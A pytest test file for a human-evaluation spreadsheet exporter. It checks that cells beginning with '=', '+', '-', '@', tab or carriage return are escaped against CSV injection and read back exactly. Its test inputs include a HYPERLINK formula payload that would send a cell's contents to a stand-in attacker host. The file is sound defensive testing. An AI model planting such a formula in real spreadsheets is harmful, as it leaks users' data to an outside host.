"""Human-evaluation sheets run no formulas, and read back exactly as written.

A spreadsheet runs a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula (OWASP, CSV injection). Prompts and answers are model output and user
data, so the sheet writes such cells with a leading ``'``, and every reader undoes exactly
that.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from ft_plugin.evaluate.human import (
    FORMULA_TRIGGERS,
    escape_cell,
    import_ratings,
    key_path_for,
    read_human_sheet,
    unescape_cell,
    write_human_sheet,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "+33 6 12 34 56 78",
    "-5 mg twice daily",
    "@SUM(A1:A9)",
    "\tindented with a tab",
    "\rstarts with a carriage return",
    "'already quoted",
    "''=two quotes then a formula",
    "- item\n- item 2\n=not a formula inside",
    "=",
    "",
    "plain answer",
]


def items() -> list[dict[str, str]]:
    n = len(HOSTILE)
    return [
        {"id": f"-{i}" if i % 2 else f"=ID{i}", "prompt": HOSTILE[i],
         "base_answer": HOSTILE[(i + 1) % n], "tuned_answer": HOSTILE[(i + 2) % n]}
        for i in range(n)
    ]  # fmt: skip


def cells(path: Path) -> list[list[str]]:
    """The cells as a spreadsheet parses the file's raw bytes."""
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


@pytest.mark.parametrize("value", [*HOSTILE, "ok", "'", "''", "'=", "-", "x=1"])
def test_escape_round_trips_and_never_starts_with_a_trigger(value: str) -> None:
    escaped = escape_cell(value)
    assert not escaped.startswith(FORMULA_TRIGGERS)
    assert unescape_cell(escaped) == value


def test_no_cell_of_the_sheet_or_its_key_starts_a_formula(tmp_path: Path) -> None:
    sheet = write_human_sheet(items(), tmp_path / "ratings.csv", seed=5)
    raw = sheet.read_bytes()
    assert b"'=HYPERLINK(" in raw and b"'-5 mg" in raw and b"'@SUM" in raw and b"'\t" in raw
    for path in (sheet, key_path_for(sheet)):
        parsed = cells(path)
        assert len(parsed) == len(HOSTILE) + 1
        for row in parsed:
            for cell in row:
                assert not cell.startswith(FORMULA_TRIGGERS), (path.name, cell)


def test_prompts_and_answers_read_back_identical(tmp_path: Path) -> None:
    given = items()
    sheet = write_human_sheet(given, tmp_path / "ratings.csv", seed=5)
    key = {row[0]: row[1:] for row in cells(key_path_for(sheet))[1:]}
    rows = read_human_sheet(sheet)
    assert [r["id"] for r in rows] == [item["id"] for item in given]
    for item, row in zip(given, rows, strict=True):
        a, b = key[escape_cell(item["id"])]
        assert row["prompt"] == item["prompt"]
        assert (row["answer_a"], row["answer_b"]) == (item[f"{a}_answer"], item[f"{b}_answer"])


@pytest.mark.parametrize("saved_by", ["kept", "dropped"])
def test_ratings_import_with_escaped_ids(tmp_path: Path, saved_by: str) -> None:
    """A spreadsheet may write the cells back with the ``'`` kept, or as the text it showed
    (the ``'`` dropped): either way the ids match the key and the ratings count."""
    sheet = write_human_sheet(items(), tmp_path / "ratings.csv", seed=5)
    rows = cells(sheet)
    header, body = rows[0], rows[1:]
    for row in body:
        row[header.index("accuracy_a")], row[header.index("preference")] = "4", "a"
        row[header.index("comment")] = "=looks fine"  # a rater's own cell, read as typed
        if saved_by == "dropped":
            row[:] = [unescape_cell(c) for c in row]
    filled = tmp_path / "ratings_ann.csv"
    with filled.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([header, *body])
    report = import_ratings([filled], key_path_for(sheet))
    assert report.items == len(HOSTILE) and report.preference_n == len(HOSTILE)
    assert read_human_sheet(filled)[0]["comment"] == "=looks fine"
